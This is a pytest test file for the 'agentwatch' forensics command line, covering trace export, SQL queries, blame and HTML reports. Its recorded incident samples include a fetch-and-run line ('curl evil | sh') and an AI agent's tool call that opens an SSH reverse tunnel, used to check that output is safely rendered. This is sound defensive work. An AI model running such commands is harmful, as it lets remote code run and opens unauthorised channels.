"""`trace export`, `query`, `blame` and `report` as users run them: answers, what is missing, exit codes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from agentwatch.cli.exits import Exit
from agentwatch.cli.main import cli
from tests.forensics.samples import DEMO, HOSTILE, damaged, incident, recorded


def ran(*arguments: str | Path) -> Result:
    return CliRunner().invoke(cli, [str(one) for one in arguments])


@pytest.fixture(autouse=True)
def kept_here(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path_factory.mktemp("kept")
    monkeypatch.setattr("agentwatch.forensics.kept.default_folder", lambda: folder)


@pytest.fixture
def torn(tmp_path: Path) -> Path:
    return damaged(recorded(tmp_path, incident()))


def needs_extra() -> None:
    pytest.importorskip("duckdb", reason="DuckDB is not installed (the extra query)")
    pytest.importorskip("pyarrow", reason="PyArrow is not installed (the extra query)")


# --- export ---


@pytest.mark.parametrize("form", ["jsonl", "pcapng", "perfetto"])
def test_export_writes_one_file_that_its_owner_reads(tmp_path: Path, form: str) -> None:
    out = tmp_path / "out"
    done = ran("trace", "export", "--format", form, DEMO, "-o", out)
    assert done.exit_code == Exit.FINE
    # The recorder's word on what it could not watch; nothing is missing from the trace.
    assert all("could not all be watched" in line for line in done.stderr.splitlines())
    assert out.stat().st_size > 1000 and out.stat().st_mode & 0o077 == 0
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    assert ran("trace", "export", "--format", form, DEMO, "-o", "-").stdout_bytes == out.read_bytes()


def test_export_of_parquet_makes_a_folder() -> None:
    done = ran("trace", "export", "--format", "parquet", DEMO, "-o", "-")
    assert done.exit_code == Exit.USAGE and "folder" in done.stderr


def test_export_writes_parquet(tmp_path: Path) -> None:
    needs_extra()
    done = ran("trace", "export", "--format", "parquet", DEMO, "-o", tmp_path / "out")
    assert done.exit_code == Exit.FINE
    assert ran("query", "SELECT count(*) AS n FROM alerts", tmp_path / "out").stdout.splitlines()[-1] == "6"


@pytest.mark.parametrize("form", ["jsonl", "pcapng", "perfetto"])
def test_export_of_a_damaged_trace_says_so(tmp_path: Path, torn: Path, form: str) -> None:
    done = ran("trace", "export", "--format", form, torn, "-o", tmp_path / "out")
    assert done.exit_code == Exit.DAMAGED and "not closed" in done.stderr
    assert (tmp_path / "out").stat().st_size > 500


def test_export_that_cannot_be_written_is_one_sentence(tmp_path: Path) -> None:
    done = ran("trace", "export", "--format", "jsonl", DEMO, "-o", tmp_path / "missing" / "out")
    assert done.exit_code == Exit.FAILURE and "cannot be written" in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_without_the_extra_it_says_what_to_install(tmp_path: Path) -> None:
    (tmp_path / "pyarrow.py").write_text("raise ImportError('none here')\n")
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join((str(tmp_path), *sys.path))}
    for command in (
        ["trace", "export", "--format", "parquet", str(DEMO), "-o", str(tmp_path / "out")],
        ["query", "SELECT 1", str(DEMO)],
        ["trace", "prepare", str(DEMO)],
    ):
        done = subprocess.run(
            [sys.executable, "-m", "agentwatch", *command],
            env=environment,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == Exit.FAILURE and "pip install 'agentwatch[query]'" in done.stderr


# --- query ---


def test_query_answers_in_every_form(tmp_path: Path) -> None:
    needs_extra()
    sql = "SELECT exe, destination_port FROM flows WHERE destination_port = 22"
    assert ran("query", sql, DEMO).stdout.splitlines()[-1].split() == ["/usr/bin/ssh", "22"]
    assert json.loads(ran("query", sql, DEMO, "--format", "json").stdout)["exe"] == "/usr/bin/ssh"
    assert ran("query", sql, DEMO, "--format", "csv").stdout.splitlines()[1] == "/usr/bin/ssh,22"
    out = tmp_path / "flows.parquet"
    assert ran("query", "SELECT * FROM flows", DEMO, "--format", "parquet", "-o", out).exit_code == Exit.FINE
    assert ran("query", sql, out).stdout.splitlines()[-1].split() == ["/usr/bin/ssh", "22"]


def test_query_of_a_damaged_trace_answers_and_says_so(torn: Path) -> None:
    needs_extra()
    done = ran("query", "SELECT count(*) AS n FROM alerts", torn)
    assert done.exit_code == Exit.DAMAGED and "not closed" in done.stderr
    assert done.stdout.splitlines()[-1] == "1"


def test_traces_are_prepared_for_queries(tmp_path: Path, torn: Path) -> None:
    needs_extra()
    done = ran("trace", "prepare", DEMO, torn)
    assert done.exit_code == Exit.DAMAGED and "not closed" in done.stderr and not done.stdout
    assert ran("trace", "prepare", tmp_path / "missing").exit_code == Exit.USAGE


@pytest.mark.parametrize("form", ["table", "json", "csv"])
def test_an_answer_that_cannot_be_told_is_one_sentence(form: str) -> None:
    needs_extra()
    done = ran("query", "SELECT DATE '290000-01-01' AS d", DEMO, "--format", form)
    assert done.exit_code == Exit.FAILURE and "out of range" in done.stderr


def test_query_shows_nothing_that_acts(tmp_path: Path) -> None:
    needs_extra()
    path = recorded(tmp_path, incident())
    for form in ("table", "json", "csv"):
        done = ran("query", "SELECT cmdline, argv FROM processes", path, "--format", form)
        assert "\x1b" not in done.stdout and "\u202e" not in done.stdout and "curl" in done.stdout


@pytest.mark.parametrize("sql", ["DELETE FROM flows", "SELECT nothing FROM flows", "SELEC", "\x1b[2J"])
def test_query_that_is_none_is_refused_in_plain_words(sql: str) -> None:
    needs_extra()
    done = ran("query", sql, DEMO)
    assert done.exit_code == Exit.FAILURE and "Error: " in done.stderr and "\x1b" not in done.stderr


# --- blame ---


def test_blame_names_the_tool_call_that_opened_the_tunnel() -> None:
    done = ran("blame", DEMO)
    assert done.exit_code == Exit.FINE
    first, call, *steps = done.stdout.split("\n\n")[0].splitlines()
    assert first.startswith("alerts 1, 2, 3, 4: process ") and first.endswith("of agent demo: /usr/bin/ssh")
    assert call.startswith("tool call: ssh -N") and "-R 127.0.0.1:9000" in call
    assert any("connects to 10.77.3.2:22" in step for step in steps)


def test_blame_as_json_has_every_step() -> None:
    done = ran("blame", "--json", "--alert", "5", DEMO)
    (story,) = map(json.loads, done.stdout.splitlines())
    assert story["alerts"] == [5] and story["tool_call"]["command"].endswith("train.py 10.77.2.2 3333")
    assert [step["kind"] for step in story["steps"]][:3] == ["exec", "fork", "exec"]
    assert story["missing"] == [] and story["damaged"] is False


@pytest.mark.parametrize("flow", ["10.77.3.2", "10.77.3.2:22", "::ffff:10.77.3.2"])
def test_blame_for_a_flow(flow: str) -> None:
    done = ran("blame", "--flow", flow, DEMO)
    assert ("/usr/bin/ssh" in done.stdout) == ("::" not in flow)
    assert done.exit_code == (Exit.FAILURE if "::" in flow else Exit.FINE)


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("--alert", "77"), "there is no alert 77"),
        (("--flow", "192.0.2.1:1"), "nobody spoke with it"),
        (("--file", "/nowhere"), "nobody touched it"),
    ],
)
def test_blame_that_finds_nothing_says_so(arguments: tuple[str, ...], said: str) -> None:
    done = ran("blame", *arguments, DEMO)
    assert done.exit_code == Exit.FAILURE and said in done.stderr and not done.stdout


def test_blame_asks_one_thing_at_a_time() -> None:
    assert ran("blame", "--alert", "1", "--file", "x", DEMO).exit_code == Exit.USAGE
    assert ran("blame", "--flow", "host:port", DEMO).exit_code == Exit.USAGE


def test_blame_of_a_damaged_trace_shows_nothing_that_acts(torn: Path) -> None:
    done = ran("blame", torn)
    assert done.exit_code == Exit.DAMAGED and "not closed" in done.stderr
    assert "curl evil | sh; true" in done.stdout
    assert "\x1b" not in done.stdout and "\u202e" not in done.stdout and HOSTILE not in done.stdout


# --- report ---


def test_report_writes_a_page(tmp_path: Path, torn: Path) -> None:
    out = tmp_path / "report.html"
    assert ran("report", DEMO, "-o", out).exit_code == Exit.FINE
    assert out.read_text().startswith("<!doctype html>") and out.stat().st_mode & 0o077 == 0
    done = ran("report", torn, "-o", out)
    assert done.exit_code == Exit.DAMAGED and "not closed" in done.stderr and "is damaged" in out.read_text()


def test_what_is_no_trace_gives_no_page(tmp_path: Path) -> None:
    path, out = tmp_path / "x", tmp_path / "report.html"
    path.write_bytes(b"hello")
    done = ran("report", path, "-o", out)
    assert done.exit_code == Exit.DAMAGED and "not an agentwatch trace" in done.stderr and not out.exists()
